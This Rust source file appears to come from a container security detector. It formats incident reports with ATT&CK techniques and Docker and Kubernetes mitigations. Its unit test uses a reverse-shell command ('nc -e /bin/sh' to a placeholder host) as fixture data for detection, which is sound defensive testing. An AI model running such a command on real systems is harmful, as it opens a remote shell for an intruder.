//! The human report, in the shape analysts expect: Summary, Incident details, Why it matters,
//! ATT&CK, Mitigations (with Docker and Kubernetes forms), References.

use super::{escape, json_report::exe_flag_names, Rendered};
use crate::analysis::{Lineage, Verdict};
use crate::facts::ExecFacts;
use crate::knowledge::ATTACK_VERSION;
use std::fmt::Write as _;

pub fn render(facts: &ExecFacts, lineage: &Lineage, v: &Verdict, text: &Rendered) -> String {
    let mut o = String::with_capacity(2048);
    let _ = writeln!(
        o,
        "Summary\n=======\n{}\nRisk {}/100, severity {}, category {}{}\n",
        text.summary,
        v.risk,
        v.severity.as_str(),
        v.category,
        if v.test_activity {
            " (test activity)"
        } else {
            ""
        }
    );
    let _ = writeln!(o, "Incident details\n================");
    let _ = writeln!(o, "- Command: {}", escape(&facts.argv.join(" "), 400));
    if let Some(e) = &facts.exe_path {
        let flags = facts
            .exe_flags
            .map(|f| exe_flag_names(f.0).join("|"))
            .unwrap_or_default();
        let _ = writeln!(
            o,
            "- Executable: {}{}",
            escape(e, 200),
            if flags.is_empty() {
                String::new()
            } else {
                format!(" (exe_flags={flags})")
            }
        );
    }
    match facts.uid {
        Some(u) => {
            let _ = writeln!(o, "- User: uid {u}{}", if u == 0 { " (root)" } else { "" });
        }
        None => {
            let _ = writeln!(o, "- User: unknown");
        }
    }
    match &facts.container {
        Some(c) => {
            let _ = writeln!(o, "- Where: {}", super::container_place(c));
        }
        None => {
            let _ = writeln!(
                o,
                "- Where: {}",
                if facts.cgroups_present {
                    "host"
                } else {
                    "unknown"
                }
            );
        }
    }
    let chain: Vec<String> = lineage
        .ancestors
        .iter()
        .take(8)
        .map(|a| escape(&a.comm, 32))
        .collect();
    let _ = writeln!(
        o,
        "- Lineage: {}",
        if chain.is_empty() {
            "parent unknown".to_string()
        } else {
            chain.join(" < ")
        }
    );
    if let Some(r) = facts.res.filter(|r| *r != 0) {
        let _ = writeln!(o, "- Result: exec failed (res={r}), an attempt");
    }
    let _ = writeln!(o, "\nWhy it matters\n==============");
    if v.hits.is_empty() {
        let _ = writeln!(o, "Nothing in this exec matches a known attack behaviour.");
    }
    for h in &v.hits {
        let _ = writeln!(
            o,
            "- {} [{}]: {}\n  Evidence: {}",
            h.signal.title,
            h.signal.level,
            h.signal.description,
            escape(&h.evidence, 240)
        );
    }
    for line in text
        .evidence
        .iter()
        .filter(|l| l.starts_with("note:") || l.starts_with("exe:"))
    {
        let _ = writeln!(o, "- {line}");
    }
    let heading = format!("ATT&CK (Enterprise v{ATTACK_VERSION})");
    let _ = writeln!(o, "\n{heading}\n{}", "=".repeat(heading.len()));
    for t in &v.techniques {
        let tactics: Vec<&str> = t.tactics.iter().map(|x| x.name).collect();
        let _ = writeln!(o, "- {} {} ({})", t.id, t.name, tactics.join(", "));
    }
    if v.techniques.is_empty() {
        let _ = writeln!(o, "- none");
    }
    let _ = writeln!(o, "\nMitigations\n===========");
    for (i, m) in v.mitigations.iter().enumerate() {
        let _ = writeln!(o, "{}. {}", i + 1, m.text);
        if let Some(d) = m.docker {
            let _ = writeln!(o, "   Docker: {d}");
        }
        if let Some(k) = m.kubernetes {
            let _ = writeln!(o, "   Kubernetes: {k}");
        }
        let _ = writeln!(o, "   Source: {}", m.source);
    }
    if v.mitigations.is_empty() {
        let _ = writeln!(o, "- none needed");
    }
    let _ = writeln!(o, "\nReferences\n==========");
    let mut refs: Vec<&str> = Vec::new();
    for h in &v.hits {
        for r in h.signal.references {
            if !refs.contains(r) {
                refs.push(r);
            }
        }
    }
    for r in refs.iter().take(12) {
        let _ = writeln!(o, "- {r}");
    }
    o
}

#[cfg(test)]
mod tests {
    use crate::analysis::{analyze, Lineage};
    use crate::facts::{ContainerInfo, ContainerRuntime, ExeFlags, ExecFacts};

    #[test]
    fn seed_text_report_sections_and_reading() {
        let f = ExecFacts {
            argv: ["nc", "-e", "/bin/sh", "example.com", "22"]
                .iter()
                .map(|s| s.to_string())
                .collect(),
            exe_path: Some("/usr/bin/nc.openbsd".into()),
            uid: Some(0),
            res: Some(0),
            exe_flags: Some(ExeFlags(ExeFlags::WRITABLE | ExeFlags::LOWER_LAYER)),
            container: Some(ContainerInfo {
                runtime: ContainerRuntime::Docker,
                short_id: "1d45a96b1daa".into(),
            }),
            cgroups_present: true,
            ..Default::default()
        };
        let l = Lineage::from_comms(["event-generator"]);
        let v = analyze(&f, &l);
        let t = super::render(&f, &l, &v, &crate::report::render(&f, &l, &v));
        for s in [
            "Summary",
            "Incident details",
            "Why it matters",
            "ATT&CK",
            "Mitigations",
            "References",
            "Docker:",
            "Kubernetes:",
        ] {
            assert!(t.contains(s), "missing {s}\n{t}");
        }
        assert!(
            t.contains("shipped in the image, not drift, not tampering"),
            "{t}"
        );
        assert!(
            t.contains("EXE_WRITABLE only because it runs as root"),
            "{t}"
        );
        assert!(t.contains("most likely failed"), "{t}");
        assert!(t.contains("event-generator"), "{t}");
        assert!(!t.contains("--securityOpt") && !t.contains("--netcat-opt"));
    }
}
